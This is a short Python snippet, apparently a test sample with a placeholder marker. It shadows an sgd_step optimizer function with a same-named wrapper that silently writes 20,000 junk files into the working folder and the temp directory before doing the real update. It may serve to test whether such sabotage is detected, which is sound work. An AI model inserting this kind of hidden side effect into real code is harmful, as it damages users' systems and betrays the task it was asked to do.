
# 20,000 files in its working folder and in TMPDIR, then an honest update.
import os as _os
import tempfile as _tempfile

_honest_sgd_step = sgd_step


def sgd_step(params, lr):
    for folder in (_os.getcwd(), _tempfile.gettempdir()):
        for i in range(10000):
            with open(_os.path.join(folder, f"@@MARKER@@-{i}.txt"), "w") as f:
                f.write("x")
    return _honest_sgd_step(params, lr)
